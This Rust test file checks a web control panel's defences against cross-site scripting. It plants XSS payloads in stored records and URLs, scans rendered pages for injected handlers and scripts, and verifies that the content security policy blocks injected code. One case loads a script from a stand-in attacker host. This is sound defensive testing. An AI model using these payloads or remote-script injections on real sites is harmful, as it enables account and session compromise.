//! Text of strangers and developers that is made to become part of a page.
//!
//! Surfaces that take free text are given it through their own way in; what else can reach a page is written into the
//! tables themselves, as a hole in front of them would let it. Every page is then opened by the owner in a real browser.

use freehold::web::table;

use crate::support::browser::Browser;
use crate::world::{PANEL, World};

/// Each would leave an element or an attribute with this name.
const MARK: &str = "data-xss";

/// For text, for attributes in either quotes, for what is inside a script, a title, a textarea, a comment or a URL.
const PAYLOADS: [&str; 5] = [
    "<script data-xss>window.hit=1</script><img src=x data-xss onerror=window.hit=1>",
    "\"'><svg data-xss onload=window.hit=1>",
    "\" data-xss autofocus onfocus=window.hit=1 x=\"' data-xss='",
    "</script></title></textarea></pre></style>--><b data-xss>&lt;b data-xss&gt;`<i data-xss>`",
    "javascript:window.hit=1//\u{202e}\u{2028}＜b data-xss＞\u{0}<b\u{c}data-xss>",
];

/// Tables and columns that hold text somebody else wrote; SQL that makes a row of each where there is none.
const PLANTED: &str = "
    INSERT INTO events (at_ms, kind, level, subject, message, data) VALUES
        ($now, 'box.note', 'error', 'box', $text, '{}'), ($now, 'app.note', 'warning', 'app:1', $text, '{}');
    INSERT INTO deploys (app_id, state, source, cause, by_whom, delivery, commit_id, title, error, created_ms, state_ms, finished_ms)
        VALUES (1, 'failed', json_object('kind', 'image', 'reference', $text), 'webhook', $text, $text, $text, $text, $text, $now, $now, $now);
    INSERT INTO releases (app_id, number, image, image_tag, settings, env, commit_id, title, created_ms, live_ms)
        VALUES (1, $row, $text, $text, '{}', x'00', $text, $text, $now, $now);
    INSERT INTO deliveries (app_id, at_ms, host, delivery, event, status, reason) VALUES (1, $now, $text, $text, $text, 401, $text);
    INSERT INTO app_env (app_id, name, value, set_ms) VALUES (1, $text, x'00', $now);
    INSERT INTO checks (subject, name, origin, url, strict, active, created_ms) VALUES ('check', $text, 'person', $text, 0, 0, $now);
    INSERT INTO incidents (check_id, opened_ms, stage, why) VALUES (last_insert_rowid(), $now, $text, $text);
    INSERT INTO databases (name, version, image, memory_bytes, password_sealed, state, reason, server_version, created_ms, changed_ms)
        VALUES ('planted' || $row, 17, $text, 1, x'00', 'failed', $text, $text, $now, $now);
    INSERT INTO attachments (database_id, app_id, app_name, role, password_sealed, env_name, state, reason, created_ms, changed_ms)
        VALUES (last_insert_rowid(), 1, $text, $text, x'00', 'PLANTED_' || $row, 'failed', $text, $now, $now);
    INSERT INTO backup_targets (name, place, endpoint, region, is_default, created_ms, fault) VALUES ($text, $text, $text, $text, 0, $now, $text);
    INSERT INTO backups (database_id, database_name, logical, owner, server_version, expected_bytes, object_key, state, cause, attempt,
        reason, sha256, contents, created_ms, due_ms, finished_ms, check_state, check_note)
        VALUES ($row, $text, $text, $text, 17, 1, $text, 'failed', 'asked', 1, $text, $text, $text, $now, $now, $now, 'bad', $text);
    INSERT INTO restores (backup_id, database_id, logical, fresh, kept, state, reason, created_ms, finished_ms)
        VALUES ($row, $row, $text, $text, $text, 'failed', $text, $now, $now);
    INSERT INTO certificate_names (host, source, error, warning, added_ms) VALUES ('planted' || $row || '.example', 'acme', $text, $text, $now);
    INSERT INTO users (name, role, password_hash, created_ms) VALUES ($text, 'viewer', '', $now);
    INSERT INTO tokens (digest, mark, name, user_id, verb, created_ms) VALUES ($text, $text, $text, 1, 'read', $now);
    INSERT INTO sessions (digest, user_id, created_ms, seen_ms, expires_ms, address, agent)
        VALUES ($text, 1, $now, $now, $now + 100000000, $text, $text);
    INSERT INTO setup_links (digest, created_ms, expires_ms, user_name, role, made_by)
        VALUES ($text, $now, $now + 100000000, 'link' || $text, 'viewer', $text);
";

fn plant(world: &mut World) {
    world.daemon.restart(|daemon| {
        let db = rusqlite::Connection::open(daemon.data().join("state.db")).unwrap();
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap();
        for (row, text) in PAYLOADS.iter().enumerate() {
            let text = format!("'{}'", text.replace('\'', "''").replace('\u{0}', ""));
            let sql = PLANTED
                .replace("$now", &now.as_millis().to_string())
                .replace("$row", &(row + 1).to_string())
                .replace("$text", &text);
            db.execute_batch(&sql)
                .unwrap_or_else(|e| panic!("{e}\n{sql}"));
            let deploy: i64 = db
                .query_row("SELECT max(id) FROM deploys", [], |r| r.get(0))
                .unwrap();
            let log = format!("{}\t{}\n", now.as_millis(), PAYLOADS[row]);
            let logs = daemon.data().join("builds");
            std::fs::write(logs.join(format!("{deploy}.log")), log).unwrap();
        }
    });
}

/// What on this page is not ours, one line each.
fn faults(browser: &Browser) -> Vec<String> {
    let found = browser.script(&format!(
        "const faults = [];
         if (window.hit) faults.push('a script ran');
         for (const e of document.querySelectorAll('*')) {{
             const at = e.outerHTML.slice(0, 120);
             for (const a of e.attributes) {{
                 if (a.name.startsWith('on') || a.name === 'style' || a.name === '{MARK}') faults.push(a.name + ': ' + at);
                 if (/^(href|src|action|data-stream)$/.test(a.name) && /^[\\s\\u0000-\\u001f]*(javascript|data|vbscript):/i.test(a.value)) faults.push(a.value);
             }}
             if (e.tagName === 'STYLE' || (e.tagName === 'SCRIPT' && !(e.src.startsWith(location.origin + '/static/') && !e.textContent))) faults.push(at);
             if (['IFRAME', 'OBJECT', 'EMBED', 'BASE'].includes(e.tagName)) faults.push(at);
             if (e.tagName === 'FORM' && e.method === 'post' && !(e.elements['form-token'] && e.elements['form-token'].value.length === 64)) faults.push('no token: ' + at);
         }}
         return faults;"
    ));
    serde_json::from_value(found).unwrap()
}

#[test]
fn a6_no_text_becomes_part_of_a_page() {
    let mut world = World::new();
    plant(&mut world);
    let browser = world.owner();
    let mut wrong = Vec::new();
    let (mut walked, mut shown) = (0, 0);
    for route in table() {
        if route.method != "GET"
            || ["/api/", "/static/", "/setup/"]
                .iter()
                .any(|p| route.path.starts_with(p))
        {
            continue;
        }
        let part = |part: &str| match part {
            "{app}" => "shop".to_owned(),
            "{database}" => "planted1".to_owned(),
            "{user}" => "owner".to_owned(),
            _ if part.starts_with('{') => "1".to_owned(),
            _ => part.to_owned(),
        };
        let path: Vec<String> = route.path.split('/').map(part).collect();
        let path = path.join("/");
        if path.ends_with("/stream") || path.ends_with(".pem") || path.ends_with("/log") {
            continue;
        }
        browser.go(&format!("{PANEL}{path}"));
        walked += 1;
        shown += usize::from(browser.text().contains("window.hit=1"));
        wrong.extend(faults(&browser).into_iter().map(|f| format!("{path}: {f}")));
    }
    // What an address or a form gives is said again by the page that answers.
    for payload in PAYLOADS {
        let text: String = payload.bytes().map(|b| format!("%{b:02x}")).collect();
        for path in [
            format!("/apps/{text}"),
            format!("/apps/shop/deploys/{text}"),
            format!("/apps/shop/domains/{text}/policies"),
            format!("/apps/shop/logs?grep={text}&process={text}&since={text}"),
            format!("/databases/{text}"),
            format!("/settings/people/{text}/remove"),
            format!("/settings/targets/{text}/remove"),
            format!("/setup/{text}"),
            format!("/{text}"),
            format!("/settings?{text}={text}"),
        ] {
            browser.go(&format!("{PANEL}{path}"));
            walked += 1;
            wrong.extend(faults(&browser).into_iter().map(|f| format!("{path}: {f}")));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(
        walked > 60 && shown >= 10,
        "{walked} pages, {shown} of them with what was planted"
    );
}

/// The search above finds what it is there for: the same payloads in pages put together without care.
#[test]
fn a6_the_search_finds_what_is_not_escaped() {
    let world = World::new();
    let browser = world.browser();
    for page in [
        format!("<p>{}</p>", PAYLOADS[0]),
        format!("<a href=\"{}\">a</a>", PAYLOADS[1]),
        format!("<a href='{}'>a</a>", PAYLOADS[1]),
        format!("<input value=\"{}\">", PAYLOADS[2]),
        format!("<textarea>{}</textarea>", PAYLOADS[3]),
        format!("<title>{}</title>", PAYLOADS[3]),
        format!("<a href=\"{}\">a</a>", PAYLOADS[4]),
    ] {
        world.evil_page(format!("<!doctype html>{page}"));
        browser.go(&format!("{}/", crate::world::EVIL));
        assert!(!faults(&browser).is_empty(), "{page}");
    }
}

/// What each way of putting a script into the open page sets, where it runs.
const INJECTIONS: [(&str, &str); 5] = [
    (
        "script",
        "const s = document.createElement('script');
         s.textContent = 'window.ran_script = 1';
         document.body.append(s);",
    ),
    (
        "handler",
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,x\" onerror=\"window.ran_handler = 1\">');",
    ),
    (
        "click",
        "document.body.insertAdjacentHTML('beforeend', '<button id=injected onclick=\"window.ran_click = 1\">x</button>');
         document.getElementById('injected').click();",
    ),
    (
        "link",
        "document.body.insertAdjacentHTML('beforeend', '<a id=leads href=\"javascript:void(window.ran_link = 1)\">x</a>');
         document.getElementById('leads').click();",
    ),
    (
        "elsewhere",
        "const s = document.createElement('script');
         s.src = 'https://evil.internal/evil.js';
         document.body.append(s);",
    ),
];

/// Puts all of them into the page that is open; which of them ran, once all had the time to.
fn injected(browser: &Browser) -> Vec<&'static str> {
    for (_, put) in INJECTIONS {
        browser.script(put);
    }
    std::thread::sleep(std::time::Duration::from_secs(2));
    ran(browser)
}

/// Which of them ran so far.
fn ran(browser: &Browser) -> Vec<&'static str> {
    let ran = |name: &str| browser.script(&format!("return window.ran_{name} === 1"));
    let names = INJECTIONS.iter().map(|(name, _)| *name);
    names.filter(|name| ran(name) == true).collect()
}

/// Should a text become part of a page after all, no script in it runs: the policy that comes with every page of ours
/// lets none run that is not a file of ours.
#[test]
fn a6_a_script_that_got_into_a_page_does_not_run() {
    let world = World::new();
    // The attacker's site answers everything with the same text: to the element above it is a script.
    world.evil_page("window.ran_elsewhere = 1");
    let browser = world.browser();
    browser.go(&format!("{PANEL}/sign-in"));
    assert_eq!(injected(&browser), [""; 0], "before anybody is signed in");
    drop(browser);
    let browser = world.owner();
    for path in [
        "/",
        "/apps/shop",
        "/apps/shop/env",
        "/settings/people",
        "/account",
    ] {
        browser.go(&format!("{PANEL}{path}"));
        assert_eq!(injected(&browser), [""; 0], "{path}");
    }
}

/// Its saboteur: where no policy comes with a page, every one of them runs.
#[test]
fn a6_where_no_policy_is_the_same_scripts_run() {
    let world = World::new();
    let browser = world.browser();
    world.evil_page("window.ran_elsewhere = 1");
    // From where the attacker's other site is elsewhere, too.
    browser.go(&format!("{}/", crate::world::SIBLING));
    let all = INJECTIONS.map(|(name, _)| name);
    let mut ran_now = injected(&browser);
    // The one that is fetched from elsewhere takes its time on a busy machine.
    let begun = std::time::Instant::now();
    while ran_now != all && begun.elapsed().as_secs() < 60 {
        std::thread::sleep(std::time::Duration::from_millis(200));
        ran_now = ran(&browser);
    }
    assert_eq!(ran_now, all);
}

/// The API's answers are never a page, whatever is in them.
#[test]
fn a6_what_the_api_answers_is_no_page() {
    let mut world = World::new();
    plant(&mut world);
    let mut planted = 0;
    for list in [
        "users",
        "tokens",
        "events",
        "checks",
        "incidents",
        "databases",
        "targets",
        "backups",
        "restores",
        "apps/shop/deploys",
        "apps/shop/deliveries",
        "apps/shop/env",
    ] {
        let cookie = world.cookie();
        let answer = world.edge(
            "GET",
            &format!("/api/v1/{list}"),
            &[&cookie, "Accept: text/html"],
            "",
        );
        planted += usize::from(answer.text.contains("window.hit"));
        let kind = answer.header("content-type").unwrap();
        assert!(kind.starts_with("application/"), "{list}: {kind}");
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
    }
    assert!(planted >= 8, "{planted}");
}
